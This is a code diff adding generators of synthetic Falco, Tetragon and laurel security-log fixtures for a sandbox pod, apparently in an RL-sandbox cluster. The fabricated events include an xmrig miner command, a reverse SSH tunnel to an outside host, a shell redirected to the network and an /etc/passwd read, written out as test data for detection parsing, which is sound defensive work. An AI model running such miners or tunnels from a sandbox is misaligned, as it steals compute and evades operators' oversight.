@@ -183,6 +183,150 @@ def ausearch_sample() -> None:
     (HERE / "ausearch_i.log").write_text("\n".join(lines) + "\n")
 
 
+def falco_sample() -> None:
+    """Falco alerts from the built-in miner and reverse-shell rules, as json_output writes them."""
+    import datetime as dt
+
+    def when(sec: float) -> str:
+        stamp = dt.datetime.fromtimestamp(T0 + sec, dt.timezone.utc)
+        return stamp.strftime("%Y-%m-%dT%H:%M:%S.%f") + "123Z"
+
+    common = {"container.id": CID[:12], "container.name": "sbx-0317", "k8s.ns.name": "rl-sandboxes",
+              "k8s.pod.name": "sbx-0317", "user.name": "sandbox"}
+    miner = ("/tmp/.x/xmrig -o stratum+tcp://xmr.pool.example.com:3333 -u " + WALLET
+             + " -p sbx --cuda --cuda-devices=6,7 --donate-level=0")
+    alerts = [
+        ("Redirect STDOUT/STDIN to Network Connection in Container", "Notice", 30.02,
+         ["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"],
+         {"proc.name": "bash", "proc.pid": 48110, "proc.ppid": 48000, "proc.exepath": "/usr/bin/bash",
+          "proc.cmdline": "bash -c for i in $(seq 1 40); do ...", "fd.name": "10.244.3.17:41022->10.20.1.13:6379",
+          "fd.sip": "10.20.1.13", "fd.sport": 6379, "fd.lport": 41022, "fd.rport": 6379, "evt.type": "dup2"},
+         "Redirect stdout/stdin to network connection (gparent=sandbox-init fd.sip=10.20.1.13 "
+         "connection=10.244.3.17:41022->10.20.1.13:6379 lport=41022 rport=6379 evt_type=dup2)"),
+        ("Detect crypto miners using the Stratum protocol", "Critical", 75.0,
+         ["maturity_sandbox", "host", "container", "process", "mitre_impact", "T1496"],
+         {"proc.name": "xmrig", "proc.pid": 48211, "proc.ppid": 48000, "proc.exepath": "/tmp/.x/xmrig",
+          "proc.cmdline": miner, "container.image.repository": "registry.example.org/rl/sandbox"},
+         "Possible miner running (command=" + miner + " pid=48211 container=sbx-0317 (id=" + CID[:12] + "))"),
+        ("Detect outbound connections to common miner pool ports", "Critical", 75.4,
+         ["maturity_sandbox", "host", "container", "network", "mitre_impact", "T1496"],
+         {"proc.name": "xmrig", "proc.pid": 48211, "proc.ppid": 48000, "proc.exepath": "/tmp/.x/xmrig",
+          "proc.cmdline": miner, "fd.name": "10.244.3.17:51234->198.51.100.77:3333", "fd.rip": "198.51.100.77",
+          "fd.rport": 3333, "fd.lport": 51234},
+         "Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip=198.51.100.77 port=3333 "
+         "command=" + miner + " pid=48211)"),
+    ]
+    lines = []
+    for rule, priority, sec, tags, fields, output in alerts:
+        lines.append(json.dumps({
+            "hostname": "gpu-node-03", "output": when(sec)[11:-1] + ": " + priority + " " + output,
+            "output_fields": {**common, "evt.time": int((T0 + sec) * 1e9), **fields}, "priority": priority,
+            "rule": rule, "source": "syscall", "tags": tags, "time": when(sec)}))
+    lines.insert(2, lines[1][:150])  # a line cut mid-object
+    (HERE / "falco.jsonl").write_text("\n".join(lines) + "\n")
+
+
+def tetragon_sample() -> None:
+    """Tetragon's JSON export: exec, exit and tcp_connect kprobe events with pod metadata."""
+    import base64
+    import datetime as dt
+
+    def when(sec: float) -> str:
+        return dt.datetime.fromtimestamp(T0 + sec, dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z"
+
+    def exec_id(pid: int, sec: float) -> str:
+        return base64.b64encode(f"gpu-node-03:{int((T0 + sec) * 1e9)}:{pid}".encode()).decode()
+
+    pod = {"namespace": "rl-sandboxes", "name": "sbx-0317",
+           "container": {"id": "containerd://" + CID, "name": "sandbox",
+                         "image": {"id": "registry.example.org/rl/sandbox@sha256:" + "ab" * 32,
+                                   "name": "registry.example.org/rl/sandbox:2026.02"},
+                         "start_time": when(-5), "pid": 1},
+           "pod_labels": {"app": "rl-sandbox", "sandbox-id": "sbx-0317"}, "workload": "sbx-0317"}
+
+    def proc(pid, sec, binary, arguments, parent, ns_pid, flags="execve clone"):
+        p = {"exec_id": exec_id(pid, sec), "pid": pid, "uid": 1000, "cwd": "/workspace", "binary": binary,
+             "arguments": arguments, "flags": flags, "start_time": when(sec), "auid": 4294967295,
+             "pod": {**pod, "container": {**pod["container"], "pid": ns_pid}}, "docker": CID[:31],
+             "parent_exec_id": parent["exec_id"] if parent else exec_id(1, -100), "tid": pid}
+        return p
+
+    init = proc(48000, 0.0, "/usr/local/bin/sandbox-init", "--sandbox-id sbx-0317 --container-id " + CID, None, 1)
+    shell = proc(48140, 45.0, "/usr/bin/bash", '-c "ssh -fN -R 2222:localhost:22 tunnel@203.0.113.50"', init, 40)
+    ssh = proc(48150, 45.01, "/usr/bin/ssh", "-fN -R 2222:localhost:22 tunnel@203.0.113.50", shell, 41)
+    smi = proc(48101, 10.25, "/usr/bin/nvidia-smi", "", init, 12)
+    miner = proc(48211, 75.0, "/tmp/.x/xmrig", "-o stratum+tcp://xmr.pool.example.com:3333 -u " + WALLET
+                 + ' --cuda --cuda-devices=6,7 --cuda-loader "/tmp/.x/my lib.so"', init, 57)
+
+    def sock(daddr, dport, sport):
+        return {"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
+                             "saddr": "10.244.3.17", "daddr": daddr, "sport": sport, "dport": dport,
+                             "cookie": "18446623500000000000", "state": "TCP_SYN_SENT"}}
+
+    events = [
+        {"process_exec": {"process": init}, "node_name": "gpu-node-03", "time": when(0.0)},
+        {"process_exec": {"process": smi, "parent": init}, "node_name": "gpu-node-03", "time": when(10.25)},
+        {"process_exit": {"process": smi, "parent": init, "status": 0, "time": when(10.6)},
+         "node_name": "gpu-node-03", "time": when(10.6)},
+        {"process_exec": {"process": shell, "parent": init}, "node_name": "gpu-node-03", "time": when(45.0)},
+        {"process_exec": {"process": ssh, "parent": shell}, "node_name": "gpu-node-03", "time": when(45.01)},
+        {"process_kprobe": {"process": ssh, "parent": shell, "function_name": "tcp_connect",
+                            "args": [sock("203.0.113.50", 22, 40112)], "action": "KPROBE_ACTION_POST",
+                            "policy_name": "connect"}, "node_name": "gpu-node-03", "time": when(45.05)},
+        {"process_exec": {"process": miner, "parent": init}, "node_name": "gpu-node-03", "time": when(75.0)},
+        {"process_kprobe": {"process": miner, "parent": init, "function_name": "tcp_connect",
+                            "args": [sock("198.51.100.77", 3333, 51234)], "action": "KPROBE_ACTION_POST",
+                            "policy_name": "connect"}, "node_name": "gpu-node-03", "time": when(75.4)},
+        {"process_kprobe": {"process": miner, "parent": init, "function_name": "security_file_permission",
+                            "args": [{"file_arg": {"path": "/etc/passwd"}}], "action": "KPROBE_ACTION_POST"},
+         "node_name": "gpu-node-03", "time": when(75.5)},
+        # an exit whose exec came before this file starts: the launch is still recorded
+        {"process_exit": {"process": proc(47000, -30.0, "/usr/bin/python3", "-m trainer --job rl-run-0217",
+                                          None, 3), "status": 0, "signal": "SIGTERM", "time": when(90.0)},
+         "node_name": "gpu-node-03", "time": when(90.0)},
+    ]
+    lines = [json.dumps(e) for e in events]
+    lines.insert(3, '{"process_exec": {"process": {"exec_id": "Z3B1LW5vZGUt')
+    (HERE / "tetragon.jsonl").write_text("\n".join(lines) + "\n")
+
+
+def laurel_sample() -> None:
+    """laurel's one-JSON-object-per-event rendering (percent-encoding for %, + and non-printables)."""
+    def pct(text: str) -> str:
+        return "".join(c if 0x20 <= ord(c) < 0x7F and c not in "%+" else "".join(f"%{b:02x}" for b in c.encode())
+                       for c in text)
+
+    def syscall(nr, name, pid, ppid, comm, exe, key, success="yes", exit_=0):
+        return {"arch": "0xc000003e", "syscall": nr, "success": success, "exit": exit_, "items": 2, "ppid": ppid,
+                "pid": pid, "auid": 4294967295, "uid": 1000, "gid": 1000, "euid": 1000, "tty": "(none)",
+                "ses": 4294967295, "comm": comm, "exe": exe, "key": key, "ARCH": "x86_64", "SYSCALL": name,
+                "UID": "sandbox"}
+
+    miner = ["/tmp/.x/xmrig", "-o", "stratum+tcp://xmr.pool.example.com:3333", "-u", WALLET, "--cuda"]
+    events = [
+        {"ID": f"{T0 + 45}.010:9120", "SYSCALL": syscall(59, "execve", 48150, 48140, "ssh", "/usr/bin/ssh", "exec"),
+         "EXECVE": {"argc": 4, "ARGV": ["ssh", "-fN", "-R", "2222:localhost:22 tunnel@203.0.113.50"]},
+         "CWD": {"cwd": "/workspace"}, "PATH": [{"item": 0, "name": "/usr/bin/ssh"}],
+         "PROCTITLE": {"ARGV": ["ssh", "-fN", "-R", "2222:localhost:22"]},
+         "PPID": {"EVENT_ID": f"{T0 + 45}.000:9119", "comm": "bash", "exe": "/usr/bin/bash", "ppid": 48000}},
+        {"ID": f"{T0 + 45}.050:9121", "SYSCALL": syscall(42, "connect", 48150, 48140, "ssh", "/usr/bin/ssh", "net"),
+         "SOCKADDR": [{"saddr": "%02%00%00%16%cb%00q2%00%00%00%00%00%00%00%00"}],
+         "PROCTITLE": {"ARGV": ["ssh", "-fN", "-R", "2222:localhost:22"]}},
+        {"ID": f"{T0 + 75}.000:9140", "SYSCALL": syscall(59, "execve", 48211, 48000, "xmrig", "/tmp/.x/xmrig", "exec"),
+         "EXECVE": {"argc": len(miner), "ARGV": [pct(a) for a in miner]}, "CWD": {"cwd": "/tmp/.x"}},
+        {"ID": f"{T0 + 75}.400:9141", "SYSCALL": syscall(42, "connect", 48211, 48000, "xmrig", "/tmp/.x/xmrig", "net",
+                                                          success="no", exit_=-115),
+         "SOCKADDR": [{"saddr": "%0a%00%0d%05%00%00%00%00 %01%0d%b8%00%00%00%00%00%00%00%00%00%00%00w%00%00%00%00",
+                       "SADDR": {"saddr_fam": "inet6", "addr": "2001:db8::77", "port": 3333}}]},
+    ]
+    lines = [json.dumps(e) for e in events]
+    lines.append('{"ID": "1771294460.000:9150", "SYSCALL": {"arch"')
+    (HERE / "laurel.jsonl").write_text("\n".join(lines) + "\n")
+
+
 if __name__ == "__main__":
     audit_sample()
     ausearch_sample()
+    falco_sample()
+    tetragon_sample()
+    laurel_sample()
